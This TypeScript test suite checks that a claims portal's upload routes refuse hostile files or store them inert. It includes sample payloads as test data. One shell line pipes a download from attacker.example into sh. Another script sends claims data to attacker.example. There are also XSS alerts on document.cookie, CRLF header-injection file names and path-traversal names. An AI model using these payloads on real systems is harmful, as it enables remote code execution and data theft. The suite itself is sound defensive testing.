// Proof suite, hostile files (issue 15): renamed executables, HTML/SVG with script, polyglots, zero bytes, files
// over the limits, traversal and control characters in names, and a flood of small uploads — each uploaded
// through the real upload routes (the API's POST /claims/{id}/poe and the portal's POST /claims/{id}/poe) to a
// real PostgreSQL database and a temporary STORAGE_DIR. Every case must be refused with the right code, leaving
// no file and no row, or stored inert: served only as an attachment with nosniff, a sandboxing CSP and the type
// checked from its content, under a cleaned name. Counts go to the proof ledger (tests/proof/report.ts).
import fs from "node:fs/promises";
import path from "node:path";
import { crc32 } from "node:zlib";
import { parse as parseDisposition } from "content-disposition";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { createOrg, createUser, type TestOrg, type TestUser } from "../fixtures/claims";
import { SLA_SETTINGS_KEY } from "../../lib/claims/settings";
import { claimResourceSchema } from "../../lib/claims/schemas";
import { sanitizeFileName } from "../../lib/poe/file-name";
import { recordProof } from "../proof/report";
import { call, claimBody, keyFor, pdfBytes, pngBytes, startApiTestEnv, stopApiTestEnv, type ApiResult, type ApiTestEnv } from "./api-helpers";
import { pgAvailable } from "./test-db";

// The portal's routes read the signed-in user through getCurrentUser; the test stands in for the session cookie.
const session = vi.hoisted(() => ({ user: null as null | Record<string, unknown> }));
vi.mock("../../lib/auth/session", async (importOriginal) => ({
  ...(await importOriginal<typeof import("../../lib/auth/session")>()),
  getCurrentUser: async () => session.user,
}));

// ───────────────────────────── hostile content ─────────────────────────────

const ascii = (text: string) => Buffer.from(text, "latin1");

/** A Windows PE executable's first bytes: "MZ", the DOS stub, the PE header at 0x80. */
function peExecutable(): Buffer {
  const b = Buffer.alloc(512, 0);
  b.write("MZ", 0, "latin1");
  b.writeUInt32LE(0x80, 0x3c);
  b.write("This program cannot be run in DOS mode.", 0x4e, "latin1");
  b.write("PE\0\0", 0x80, "latin1");
  b.writeUInt16LE(0x8664, 0x84);
  return b;
}
const elfExecutable = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120, 0)]);
const machO = () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(120, 0)]);
const javaClass = () => Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x34]), Buffer.alloc(64, 0)]);
const shellScript = () => ascii("#!/bin/sh\ncurl -s http://attacker.example/x | sh\n");

/** A minimal ZIP (stored entries) with these files: a JAR, a zipped executable, an OOXML look-alike. */
function zip(entries: Record<string, Buffer>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, data] of Object.entries(entries)) {
    const nameBytes = ascii(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const centralDir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(entries).length, 8);
  end.writeUInt16LE(Object.keys(entries).length, 10);
  end.writeUInt32LE(centralDir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, centralDir, end]);
}

const gifHeader = () => Buffer.concat([ascii("GIF89a"), Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b])]);
const jpegHeader = () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
const SCRIPT = "<script>fetch('/api/v1/claims').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))</script>";
const htmlWithScript = () => ascii(`<!doctype html><html><body onload="alert(document.cookie)"><h1>Statement</h1>${SCRIPT}</body></html>`);
const svgWithScript = () => ascii(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`);

interface HostileCase {
  subject: string;
  label: string;
  name: string;
  bytes: Buffer;
  /** Refused with this status and code, or stored with this content type (then it must be inert). */
  expect: { status: number; code: string } | { storedAs: string };
}

const UNSUPPORTED = { status: 415, code: "UNSUPPORTED_MEDIA_TYPE" };
const INVALID = { status: 422, code: "VALIDATION" };

function hostileCases(): HostileCase[] {
  const executables: [string, Buffer][] = [
    ["PE", peExecutable()],
    ["ELF", elfExecutable()],
    ["Mach-O", machO()],
    ["Java class", javaClass()],
    ["shell script", shellScript()],
    ["zipped .exe", zip({ "setup.exe": peExecutable() })],
  ];
  const disguises = ["pdf", "png", "jpg", "gif", "docx", "xlsx", "doc", "msg", "tif", "xps"];
  const renamed: HostileCase[] = executables.flatMap(([label, bytes]) =>
    disguises.map((ext) => ({ subject: "renamed executables", label: `${label} as .${ext}`, name: `statement.${ext}`, bytes, expect: UNSUPPORTED })),
  );
  for (const ext of ["exe", "dll", "scr", "bat", "cmd", "ps1", "js", "vbs", "jar", "msi", "sh", "lnk", "svg", "xml", "zip"]) {
    renamed.push({ subject: "renamed executables", label: `executable name .${ext}`, name: `setup.${ext}`, bytes: peExecutable(), expect: UNSUPPORTED });
  }
  // Text that is a script stays text: accepted as CSV, served inert as text/csv.
  renamed.push({ subject: "renamed executables", label: "shell script as .csv", name: "run.csv", bytes: shellScript(), expect: { storedAs: "text/csv" } });

  const scripted: HostileCase[] = [
    { label: "HTML with script as .html", name: "statement.html", bytes: htmlWithScript(), expect: { storedAs: "text/html" } },
    { label: "HTML with script as .htm", name: "statement.htm", bytes: htmlWithScript(), expect: { storedAs: "text/html" } },
    { label: "SVG with script as .svg", name: "logo.svg", bytes: svgWithScript(), expect: UNSUPPORTED },
    // The detector reads the XML declaration as XML, not HTML: refused.
    { label: "SVG with script as .html", name: "logo.html", bytes: svgWithScript(), expect: UNSUPPORTED },
    { label: "inline SVG in HTML as .html", name: "page.html", bytes: ascii(`<html><body><svg onload="alert(1)">${SCRIPT}</svg></body></html>`), expect: { storedAs: "text/html" } },
    { label: "HTML with script as .csv", name: "data.csv", bytes: htmlWithScript(), expect: { storedAs: "text/csv" } },
    ...["pdf", "png", "jpg", "gif", "docx", "rtf", "xls"].map((ext) => ({ label: `HTML with script as .${ext}`, name: `statement.${ext}`, bytes: htmlWithScript(), expect: UNSUPPORTED })),
    ...["pdf", "png", "gif", "bmp"].map((ext) => ({ label: `SVG with script as .${ext}`, name: `logo.${ext}`, bytes: svgWithScript(), expect: UNSUPPORTED })),
  ].map((c) => ({ ...c, subject: "HTML/SVG with script" }));

  const polyglots: HostileCase[] = [
    // Accepted as what their first bytes are, and served only as that type, as an attachment.
    { label: "GIF + JAR (GIFAR) as .gif", name: "chart.gif", bytes: Buffer.concat([gifHeader(), zip({ "Evil.class": javaClass() })]), expect: { storedAs: "image/gif" } },
    { label: "PDF + HTML as .pdf", name: "sow.pdf", bytes: Buffer.concat([pdfBytes(), htmlWithScript()]), expect: { storedAs: "application/pdf" } },
    { label: "JPEG + JavaScript as .jpg", name: "photo.jpg", bytes: Buffer.concat([jpegHeader(), ascii(`*/=1;alert(1);/*`), Buffer.from([0xff, 0xd9])]), expect: { storedAs: "image/jpeg" } },
    { label: "PNG + HTML as .png", name: "screen.png", bytes: Buffer.concat([pngBytes(), htmlWithScript()]), expect: { storedAs: "image/png" } },
    // Named as the script half: the detector sees the binary half and refuses.
    { label: "PDF + HTML as .html", name: "sow.html", bytes: Buffer.concat([pdfBytes(), htmlWithScript()]), expect: UNSUPPORTED },
    { label: "PNG + HTML as .html", name: "screen.html", bytes: Buffer.concat([pngBytes(), htmlWithScript()]), expect: UNSUPPORTED },
    { label: "GIF + JAR as .html", name: "chart.html", bytes: Buffer.concat([gifHeader(), zip({ "Evil.class": javaClass() })]), expect: UNSUPPORTED },
    { label: "JAR named .docx", name: "report.docx", bytes: zip({ "META-INF/MANIFEST.MF": ascii("Main-Class: Evil\n"), "Evil.class": javaClass() }), expect: UNSUPPORTED },
    { label: "JAR named .xps", name: "report.xps", bytes: zip({ "META-INF/MANIFEST.MF": ascii("Main-Class: Evil\n") }), expect: UNSUPPORTED },
    { label: "PE + PDF trailer as .pdf", name: "invoice.pdf", bytes: Buffer.concat([peExecutable(), pdfBytes()]), expect: UNSUPPORTED },
    { label: "RTF header on HTML as .rtf", name: "memo.rtf", bytes: Buffer.concat([ascii("{\\rtf1 "), htmlWithScript()]), expect: { storedAs: "application/rtf" } },
  ].map((c) => ({ ...c, subject: "polyglots" }));

  const empty: HostileCase[] = ["pdf", "png", "html", "csv", "docx"].map((ext) => ({
    subject: "zero bytes",
    label: `empty .${ext}`,
    name: `empty.${ext}`,
    bytes: Buffer.alloc(0),
    expect: INVALID,
  }));

  const names: [string, string][] = [
    ["traversal (slash)", "../../../../tmp/pwned.pdf"],
    ["traversal (backslash)", "..\\..\\..\\Windows\\System32\\pwned.pdf"],
    ["absolute path", "/etc/cron.d/pwned.pdf"],
    ["drive path", "C:\\Users\\Public\\pwned.pdf"],
    ["right-to-left override", "invoice\u202Efdp.pdf"],
    ["isolates", "\u2067statement\u2069.pdf"],
    ["direction marks", "a\u200Eb\u200Fc\u061C.pdf"],
    ["CR LF header injection", "x.pdf\r\nContent-Type: text/html\r\n\r\n.pdf"],
    ["NUL", "proof\u0000.exe.pdf"],
    ["C1 controls", "proof\u0085\u009b.pdf"],
    ["DEL and tab", "pro\u007fof\t.pdf"],
    ["decomposed accents", "Rele\u0301ve\u0301.pdf"],
    ["quotes and semicolon", "a\"; filename=evil.html; x=\".pdf"],
    ["very long", `${"a".repeat(240)}.pdf`],
  ];
  const named: HostileCase[] = names.map(([label, name]) => ({ subject: "traversal and control characters in names", label, name, bytes: pdfBytes(label), expect: { storedAs: "application/pdf" } }));
  named.push(
    // The override hides the real extension: once removed, ".exe" is what remains.
    { subject: "traversal and control characters in names", label: "RLO disguising .exe", name: "invoice\u202Efdp.exe", bytes: peExecutable(), expect: UNSUPPORTED },
    { subject: "traversal and control characters in names", label: "only control characters", name: "\u202E\u0000\u200F", bytes: pdfBytes(), expect: INVALID },
    { subject: "traversal and control characters in names", label: "dot-dot", name: "..", bytes: pdfBytes(), expect: INVALID },
    { subject: "traversal and control characters in names", label: "folder only", name: "../", bytes: pdfBytes(), expect: INVALID },
    { subject: "traversal and control characters in names", label: "too long", name: `${"b".repeat(300)}.pdf`, bytes: pdfBytes(), expect: INVALID },
  );
  return [...renamed, ...scripted, ...polyglots, ...empty, ...named];
}

// ───────────────────────────── the test ─────────────────────────────

type Surface = "api" | "portal";

describe.skipIf(!pgAvailable)("proof: hostile files (PostgreSQL, real upload routes)", () => {
  let env: ApiTestEnv;
  let org: TestOrg;
  let partner: TestUser;
  let key: string;

  beforeAll(async () => {
    env = await startApiTestEnv();
    org = await createOrg(env.t.db, "Hostile Uploads Ltd");
    partner = await createUser(env.t.db, "PARTNER_ADMIN", org.id, "hostile");
    key = await keyFor(env.t.db, partner.email);
    session.user = { id: partner.id, role: partner.role, organizationId: org.id, name: partner.email, email: partner.email, organizationName: org.name };
  });
  afterAll(async () => {
    await stopApiTestEnv(env);
  });
  afterEach(() => {
    delete process.env.UPLOAD_MAX_PER_ORG_PER_MINUTE;
  });

  async function newClaim(): Promise<string> {
    const created = await call("POST", "/claims", { key, json: claimBody(org.mpnIds[0]) });
    expect(created.status, created.text).toBe(201);
    return claimResourceSchema.parse(created.body).id;
  }

  /**
   * Files under STORAGE_DIR (relative paths), plus any file a traversal could have written outside it: where the
   * hostile names of this test point when joined to STORAGE_DIR, or taken as absolute paths.
   */
  async function filesAround(): Promise<string[]> {
    const entries = await fs.readdir(env.storageDir, { recursive: true, withFileTypes: true }).catch(() => []);
    const inside = entries.filter((e) => e.isFile()).map((e) => path.relative(env.storageDir, path.join(e.parentPath, e.name)));
    const targets = [
      path.resolve(env.storageDir, "../../../../tmp/pwned.pdf"),
      path.resolve(env.storageDir, "../pwned.pdf"),
      "/tmp/pwned.pdf",
      "/etc/cron.d/pwned.pdf",
      path.resolve(env.storageDir, "..", "..", "..", "Windows", "System32", "pwned.pdf"),
    ];
    const outside: string[] = [];
    for (const target of targets) if (await fs.stat(target).catch(() => null)) outside.push(target);
    return [...inside.sort(), ...outside];
  }

  async function storedCount(): Promise<number> {
    const entries = await fs.readdir(env.storageDir, { recursive: true, withFileTypes: true }).catch(() => []);
    return entries.filter((e) => e.isFile()).length;
  }

  async function send(surface: Surface, claimId: string, name: string, body: BodyInit | ReadableStream<Uint8Array>, headers: Record<string, string> = {}): Promise<ApiResult> {
    const fileHeaders = { "X-File-Name": encodeURIComponent(name), "Content-Type": "application/octet-stream", ...headers };
    if (surface === "api") return call("POST", `/claims/${claimId}/poe`, { key, body: body as BodyInit, headers: fileHeaders });
    const { POST } = await import("../../app/(portal)/claims/[id]/poe/route");
    const request = new Request(`http://portal.test/claims/${claimId}/poe`, {
      method: "POST",
      headers: { ...fileHeaders, Origin: "http://portal.test", Host: "portal.test", "Sec-Fetch-Site": "same-origin" },
      body,
      ...(body instanceof ReadableStream ? { duplex: "half" } : {}),
    } as RequestInit);
    const response = await POST(request, { params: Promise.resolve({ id: claimId }) });
    const bytes = Buffer.from(await response.arrayBuffer());
    const text = bytes.toString("utf8");
    return { status: response.status, headers: response.headers, body: /json/.test(response.headers.get("content-type") ?? "") ? JSON.parse(text) : text, text, bytes };
  }

  /** Checks one case; returns what did not hold ("" when it held). */
  /** One claim per surface and subject: each subject keeps well under the claim's 50 files. */
  const claims = new Map<string, string>();

  async function tryCase(surface: Surface, c: HostileCase): Promise<string> {
    const claimKey = `${surface} ${c.subject}`;
    if (!claims.has(claimKey)) claims.set(claimKey, await newClaim());
    const claimId = claims.get(claimKey)!;
    const held = new Set((await env.t.db.poeFile.findMany({ where: { claimId }, select: { id: true } })).map((r) => r.id));
    const before = { files: await filesAround(), stored: await storedCount() };
    const result = await send(surface, claimId, c.name, new Uint8Array(c.bytes));
    const rows = (await env.t.db.poeFile.findMany({ where: { claimId } })).filter((r) => !held.has(r.id));
    const problems: string[] = [];
    if ("status" in c.expect) {
      if (result.status !== c.expect.status || result.body?.code !== c.expect.code) problems.push(`answered ${result.status} ${result.body?.code ?? result.text.slice(0, 80)}`);
      if (!/^application\/problem\+json/.test(result.headers.get("content-type") ?? "")) problems.push("not problem+json");
      if (rows.length) problems.push(`${rows.length} row(s) left`);
      if ((await storedCount()) !== before.stored) problems.push("a file was left in STORAGE_DIR");
      if (JSON.stringify(await filesAround()) !== JSON.stringify(before.files)) problems.push("files changed beside STORAGE_DIR");
      return problems.join("; ");
    }
    if (result.status !== 201) return `answered ${result.status} ${result.text.slice(0, 120)}`;
    const expectedName = sanitizeFileName(c.name);
    if (rows.length !== 1) problems.push(`${rows.length} rows`);
    const row = rows[0];
    if (row?.fileName !== expectedName) problems.push(`stored name ${JSON.stringify(row?.fileName)}`);
    if (/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\\/]/.test(row?.fileName ?? "")) problems.push("unsafe characters in the stored name");
    if (row?.contentType !== c.expect.storedAs) problems.push(`stored as ${row?.contentType}`);
    if (!/^[0-9a-f]{2}\/[0-9a-f-]{36}$/.test(row?.storageKey ?? "")) problems.push(`storage key ${row?.storageKey}`);
    if ((await storedCount()) !== before.stored + 1) problems.push("not exactly one file stored");
    const around = (await filesAround()).filter((f) => !before.files.includes(f));
    if (around.length !== 1 || around[0] !== row?.storageKey) problems.push(`new files: ${around.join(", ")}`);
    // Served inert, through the API and the portal's download routes alike.
    const downloads = [await call("GET", `/claims/${claimId}/poe/${row.id}`, { key }), await portalDownload(claimId, row.id)];
    for (const d of downloads) {
      const disposition = d.headers.get("content-disposition") ?? "";
      if (d.status !== 200) problems.push(`download ${d.status}`);
      if (!disposition.startsWith("attachment;")) problems.push(`disposition ${disposition}`);
      // Parsed back as a browser would: one attachment whose file name is exactly the stored, cleaned name.
      const parsed = (() => {
        try {
          return parseDisposition(disposition);
        } catch {
          return null;
        }
      })();
      if (/[\r\n]/.test(disposition) || parsed?.type !== "attachment" || parsed.parameters.filename !== expectedName) {
        problems.push(`disposition ${disposition} parses as ${JSON.stringify(parsed)}`);
      }
      if (d.headers.get("x-content-type-options") !== "nosniff") problems.push("no nosniff");
      const csp = d.headers.get("content-security-policy") ?? "";
      if (!/\bsandbox\b/.test(csp) || !/default-src 'none'/.test(csp)) problems.push(`csp ${csp}`);
      if (d.headers.get("content-type") !== c.expect.storedAs) problems.push(`served as ${d.headers.get("content-type")}`);
      if (!d.bytes.equals(c.bytes)) problems.push("bytes differ");
    }
    return problems.join("; ");
  }

  async function portalDownload(claimId: string, poeId: string): Promise<ApiResult> {
    const { GET } = await import("../../app/(portal)/claims/[id]/poe/[poeId]/route");
    const response = await GET(new Request(`http://portal.test/claims/${claimId}/poe/${poeId}`), { params: Promise.resolve({ id: claimId, poeId }) });
    const bytes = Buffer.from(await response.arrayBuffer());
    return { status: response.status, headers: response.headers, body: null, text: "", bytes };
  }

  it("renamed executables, HTML/SVG with script, polyglots, zero bytes, hostile names: refused or stored inert, on both upload routes", async () => {
    // The flood has its own test; here every case must reach the checks.
    process.env.UPLOAD_MAX_PER_ORG_PER_MINUTE = "0";
    const cases = hostileCases();
    const failures: string[] = [];
    const bySubject = new Map<string, { tried: number; held: number }>();
    for (const c of cases) {
      for (const surface of ["api", "portal"] as const) {
        const problem = await tryCase(surface, c);
        const tally = bySubject.get(c.subject) ?? { tried: 0, held: 0 };
        tally.tried++;
        if (problem) failures.push(`${c.subject} · ${c.label} · ${surface}: ${problem}`);
        else tally.held++;
        bySubject.set(c.subject, tally);
      }
    }
    for (const [subject, { tried, held }] of bySubject) recordProof({ category: "hostile-files", subject, tried, held });
    expect(failures).toEqual([]);
  }, 600_000);

  it("over the limits: the file size setting (413), the claim's 50 files (422); declared or streamed, nothing is left", async () => {
    process.env.UPLOAD_MAX_PER_ORG_PER_MINUTE = "0";
    await env.t.db.setting.upsert({
      where: { key: SLA_SETTINGS_KEY },
      create: { key: SLA_SETTINGS_KEY, value: { poeMaxBytes: 4096 } },
      update: { value: { poeMaxBytes: 4096 } },
    });
    const failures: string[] = [];
    let tried = 0;
    try {
      const big = Buffer.concat([pdfBytes(), Buffer.alloc(8192, 0x20)]);
      const variants: { label: string; body: () => BodyInit | ReadableStream<Uint8Array>; headers?: Record<string, string>; expect: [number, string] }[] = [
        { label: "declared length", body: () => new Uint8Array(big), expect: [413, "PAYLOAD_TOO_LARGE"] },
        { label: "lying small Content-Length header", body: () => chunked(big), headers: { "Content-Length": "100" }, expect: [413, "PAYLOAD_TOO_LARGE"] },
        { label: "chunked stream", body: () => chunked(big), expect: [413, "PAYLOAD_TOO_LARGE"] },
        { label: "one byte over", body: () => chunked(Buffer.concat([pdfBytes(), Buffer.alloc(4097 - pdfBytes().length, 0x20)])), expect: [413, "PAYLOAD_TOO_LARGE"] },
      ];
      for (const surface of ["api", "portal"] as const) {
        for (const v of variants) {
          tried++;
          const claimId = await newClaim();
          const before = await storedCount();
          let result: ApiResult;
          try {
            result = await send(surface, claimId, "big.pdf", v.body(), v.headers);
          } catch (error) {
            // A Request whose body disagrees with its Content-Length may be refused by the runtime itself.
            if (v.headers?.["Content-Length"]) {
              if ((await storedCount()) !== before) failures.push(`${surface} ${v.label}: file left`);
              continue;
            }
            throw error;
          }
          const ok = result.status === v.expect[0] && result.body?.code === v.expect[1];
          const rows = await env.t.db.poeFile.count({ where: { claimId } });
          if (!ok || rows !== 0 || (await storedCount()) !== before) failures.push(`${surface} ${v.label}: ${result.status} ${result.body?.code}, ${rows} rows`);
        }
        // The claim's file quota: 50 held, the 51st refused.
        tried++;
        const claimId = await newClaim();
        await env.t.db.poeFile.createMany({
          data: Array.from({ length: 50 }, (_, i) => ({
            claimId,
            fileName: `held-${i}.pdf`,
            size: 10,
            sha256: "0".repeat(64),
            contentType: "application/pdf",
            storageKey: `test/${crypto.randomUUID()}`,
          })),
        });
        const before = await storedCount();
        const result = await send(surface, claimId, "51st.pdf", new Uint8Array(pdfBytes()));
        if (result.status !== 422 || result.body?.code !== "VALIDATION" || (await storedCount()) !== before || (await env.t.db.poeFile.count({ where: { claimId } })) !== 50) {
          failures.push(`${surface} 51st file: ${result.status} ${result.body?.code}`);
        }
      }
    } finally {
      await env.t.db.setting.delete({ where: { key: SLA_SETTINGS_KEY } });
    }
    recordProof({ category: "hostile-files", subject: "over the limit", tried, held: tried - failures.length });
    expect(failures).toEqual([]);
  });

  it("a flood of small uploads: the organization's per-minute limit holds (429 + Retry-After), nothing left of the refused", async () => {
    const LIMIT = 12;
    process.env.UPLOAD_MAX_PER_ORG_PER_MINUTE = String(LIMIT);
    const floodOrg = await createOrg(env.t.db, "Flood Ltd");
    const flooder = await createUser(env.t.db, "PARTNER_ADMIN", floodOrg.id, "flood");
    const floodKey = await keyFor(env.t.db, flooder.email);
    const created = await call("POST", "/claims", { key: floodKey, json: claimBody(floodOrg.mpnIds[0]) });
    const claimId = claimResourceSchema.parse(created.body).id;
    const before = await storedCount();
    const FLOOD = 40;
    const results: ApiResult[] = [];
    // Ten at a time, as a script would fire them.
    for (let i = 0; i < FLOOD; i += 10) {
      results.push(
        ...(await Promise.all(
          Array.from({ length: 10 }, (_, j) =>
            call("POST", `/claims/${claimId}/poe`, {
              key: floodKey,
              body: new Uint8Array(pdfBytes(`tiny ${i + j}`)),
              headers: { "X-File-Name": `tiny-${i + j}.pdf`, "Content-Type": "application/octet-stream" },
            }),
          ),
        )),
      );
    }
    const accepted = results.filter((r) => r.status === 201).length;
    const refused = results.filter((r) => r.status === 429 && r.body?.code === "RATE_LIMITED" && Number(r.headers.get("retry-after")) >= 1);
    const conflicts = results.filter((r) => r.status === 409).length;
    const rows = await env.t.db.poeFile.count({ where: { claimId } });
    const stored = (await storedCount()) - before;
    // Held: each refused upload answered 429 with Retry-After; together at most LIMIT got through (concurrent ones
    // that lost the claim's optimistic guard answer 409 CONFLICT), and exactly the accepted ones left a row and a file.
    const held = refused.length + accepted + conflicts;
    const consistent = accepted + conflicts <= LIMIT && rows === accepted && stored === accepted;
    recordProof({ category: "hostile-files", subject: "a flood of small uploads", tried: FLOOD, held: consistent ? held : refused.length });
    expect(refused.length).toBe(FLOOD - LIMIT);
    expect(accepted + conflicts).toBe(LIMIT);
    expect(rows).toBe(accepted);
    expect(stored).toBe(accepted);
  });
});

function chunked(bytes: Buffer): ReadableStream<Uint8Array> {
  return new ReadableStream<Uint8Array>({
    start(controller) {
      for (let i = 0; i < bytes.length; i += 1000) controller.enqueue(new Uint8Array(bytes.subarray(i, i + 1000)));
      controller.close();
    },
  });
}
